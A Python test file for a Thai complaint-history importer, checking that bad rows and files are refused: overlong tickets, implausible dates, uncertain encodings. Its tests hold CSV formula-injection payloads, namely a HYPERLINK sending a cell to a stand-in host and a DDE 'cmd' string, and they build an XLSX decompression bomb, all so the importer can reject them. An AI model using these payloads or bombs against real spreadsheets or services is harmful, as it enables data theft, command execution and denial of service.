"""Issue 21's imports: nothing a file holds crashes a batch or is stored wrong — column lengths, ticket shapes, file
size and XLSX expansion, plausible years, day/month order, encodings that are certain; on SQLite and PostgreSQL."""
from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from history.importer import (
    ColumnMapping,
    FileLimits,
    ImportFileError,
    ImportRow,
    SkippedRow,
    column_limit,
    detect_encoding,
    prepare_rows,
    read_table,
    rows_from_text,
)
from history.service import import_file
from storage.db import Database
from storage.models import Case
from tests.analytics.test_pipeline import db  # noqa: F401 — the pipeline's database fixture
from tests.history.test_import_file import runtime

NOW = dt.datetime(2025, 11, 20, 5, 0, tzinfo=dt.UTC)
LINE = ColumnMapping(text="เรื่อง", date="วันที่", ticket="เลขที่", channel_value="line")


def outcomes(content: str, mapping: ColumnMapping = LINE) -> dict[int, ImportRow | SkippedRow]:
    return {r.line: r for r in prepare_rows(rows_from_text(content), mapping, now=NOW)}


def test_a_ticket_longer_than_its_column_skips_that_row_only_on_both_databases(db: Database, tmp_path: Path) -> None:
    limit, _ = column_limit("ticket")
    assert limit == Case.__table__.c.ticket.type.length == 32
    path = tmp_path / "long.csv"
    path.write_text("เรื่อง,วันที่,เลขที่\n"
                    f"ไฟถนนดับ ซอย 3,1/10/2568,{'A' * (limit + 1)}\n"
                    f"ถนนเป็นหลุม หมู่ 2,2/10/2568,{'B' * limit}\n"
                    "ขยะไม่เก็บ หมู่ 7,3/10/2568,R-3\n", encoding="utf-8")
    summary = import_file(runtime(db), path=path, mapping=LINE)
    assert summary.imported == 2 and [s.line for s in summary.skipped] == [2]
    assert "เลขที่เรื่อง" in summary.skipped[0].reason and "ยาวเกิน 32 ตัวอักษร" in summary.skipped[0].reason
    assert "แถวที่ 2" in summary.thai_report()
    with db.session() as session:
        assert set(session.scalars(select(Case.ticket))) == {"B" * limit, "R-3"}


def test_a_long_group_or_unit_name_is_refused_with_its_column_s_length() -> None:
    group_limit, _ = column_limit("group")
    rows = outcomes(f"เรื่อง,กลุ่ม\nก,{'ก' * (group_limit + 1)}\nข,ผู้สูงอายุ\n",
                    ColumnMapping(text="เรื่อง", group="กลุ่ม", channel_value="line"))
    assert "กลุ่มผู้รับบริการ" in rows[2].reason and f"ยาวเกิน {group_limit}" in rows[2].reason
    assert isinstance(rows[3], ImportRow)


def test_a_formula_or_odd_ticket_cell_is_refused_not_stored() -> None:
    rows = outcomes('เรื่อง,วันที่,เลขที่\n'
                    'ก,1/10/2568,"=HYPERLINK(""http://x.example/?a=""&A1,""คลิก"")"\n'
                    'ข,1/10/2568,+cmd|\' /C calc\'!A0\n'
                    'ค,1/10/2568,R 001\n'
                    'ง,1/10/2568,ทต-2567/0012\n'
                    'จ,1/10/2568,OLD-001\n')
    for line in (2, 3, 4):
        assert isinstance(rows[line], SkippedRow) and "ไม่ใช่รูปแบบเลขที่เรื่อง" in rows[line].reason
    assert rows[5].ticket == "ทต-2567/0012" and rows[6].ticket == "OLD-001"


@pytest.mark.parametrize(("cell", "why"), [
    ("1/1/2467", "พ.ศ. 2467"),       # 1924: a typo or another calendar, not our register
    ("1/1/1900", "พ.ศ. 2443"),       # Excel's day zero
    ("15/3/2499", "พ.ศ. 2499"),
    ("1/1/2571", "พ.ศ. 2571"),       # beyond next year
    ("03/15/2567", "ไม่มีเดือนที่ 15"),  # month/day: refused, never swapped
    ("๐๓/๑๕/๒๕๖๗", "ไม่มีเดือนที่ 15"),
    ("25/11/2568", "อยู่ในอนาคต"),
])
def test_implausible_years_swapped_day_and_month_and_future_days_are_refused(cell: str, why: str) -> None:
    row = outcomes(f"เรื่อง,วันที่\nไฟดับ,{cell}\n", ColumnMapping(text="เรื่อง", date="วันที่", channel_value="line"))[2]
    assert isinstance(row, SkippedRow), row
    assert why in row.reason and row.reason.startswith("วันที่รับเรื่อง")


def test_plausible_day_month_year_dates_still_import() -> None:
    rows = outcomes("เรื่อง,วันที่\nก,15/03/2567\nข,1/1/2500\nค,3/4/1999\nง,19/11/2568\n",
                    ColumnMapping(text="เรื่อง", date="วันที่", channel_value="line"))
    days = [rows[n].received_at.astimezone(dt.timezone(dt.timedelta(hours=7))).date() for n in (2, 3, 4, 5)]
    assert days == [dt.date(2024, 3, 15), dt.date(1957, 1, 1), dt.date(1999, 4, 3), dt.date(2025, 11, 19)]


def test_encodings_are_read_only_where_certain(tmp_path: Path) -> None:
    thai = "เรื่อง,วันที่\nไฟถนนดับ ซอยสุขใจ,1/10/2568\n"
    for encoding, expected in (("utf-16", "utf-16"), ("utf-8-sig", "utf-8-sig"), ("cp874", "cp874")):
        path = tmp_path / f"{encoding}.csv"
        path.write_bytes(thai.encode(encoding))
        assert detect_encoding(path) == expected
        assert [r.text for r in prepare_rows(read_table(path), ColumnMapping(text="เรื่อง", channel_value="line"),
                                             now=NOW)] == ["ไฟถนนดับ ซอยสุขใจ"]
    latin = tmp_path / "latin1.csv"
    latin.write_bytes("เรื่อง\nอาหาร café ไม่สะอาด\n".replace("เรื่อง", "text").replace("อาหาร ", "")
                      .replace(" ไม่สะอาด", " sale").encode("latin-1"))
    with pytest.raises(ImportFileError, match="UTF-8") as error:
        read_table(latin)
    assert "Latin-1" in str(error.value)
    plain_high_bytes = tmp_path / "unknown.csv"
    plain_high_bytes.write_bytes(b"text\nprice \xa3 5\n")  # a pound sign in Latin-1; cp874 would read a Thai letter
    with pytest.raises(ImportFileError, match="ไม่ทราบรหัสอักขระ|UTF-8"):
        read_table(plain_high_bytes)


def _bomb(path: Path, *, megabytes: int) -> Path:
    """A real workbook whose sheet unzips to `megabytes` of repeated rows (a few hundred KB zipped)."""
    book = Workbook()
    book.active.append(["เรื่อง", "วันที่"])
    plain = path.with_suffix(".plain.xlsx")
    book.save(plain)
    row = '<row><c t="inlineStr"><is><t>ไฟถนนดับ</t></is></c><c t="inlineStr"><is><t>1/10/2568</t></is></c></row>'
    rows = row * (megabytes * 2**20 // len(row.encode()))
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            target.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return path


def test_an_xlsx_that_expands_hugely_is_refused_before_it_is_read_and_nothing_is_imported(
        db: Database, tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx", megabytes=40)
    assert path.stat().st_size < 2 * 2**20
    mapping = ColumnMapping(text="เรื่อง", date="วันที่", channel_value="line")
    with pytest.raises(ImportFileError, match="ไฟล์ Excel bomb.xlsx ผิดปกติ: ส่วน xl/worksheets/sheet1.xml ขยาย"):
        import_file(runtime(db), path=path, mapping=mapping)
    with pytest.raises(ImportFileError, match="เมื่อแตกไฟล์แล้วมีขนาด 40 MB เกินที่รับได้ \\(30 MB\\)"):
        read_table(path, limits=FileLimits(xlsx_expanded_bytes=30 * 2**20, xlsx_ratio=10_000))
    with pytest.raises(ImportFileError, match="เกินที่รับได้ \\(100 KB\\)"):
        read_table(path, limits=FileLimits(file_bytes=100 * 2**10))
    with db.session() as session:
        assert session.scalar(select(func.count()).select_from(Case)) == 0


def test_the_command_exits_non_zero_with_the_thai_reason(db: Database, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str],
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import argparse

    from history import commands

    path = _bomb(tmp_path / "bomb.xlsx", megabytes=40)
    monkeypatch.setattr(commands, "_runtime_parts", lambda *a, **k: _Closing(runtime(db)))
    args = argparse.Namespace(text_column="เรื่อง", date_column="วันที่", channel_column=None, channel="line",
                              unit_column=None, status_column=None, resolved_column=None, group_column=None,
                              ticket_column=None, satisfaction_column=None, sheet=None, no_progress=True,
                              file=path, build_runtime=None)
    assert commands._import(args, settings=None) == 2
    assert "นำเข้าไม่ได้: ไฟล์ Excel bomb.xlsx ผิดปกติ" in capsys.readouterr().err


class _Closing:
    def __init__(self, inner: object) -> None:
        self.__dict__.update(vars(inner))

    def close(self) -> None:
        pass
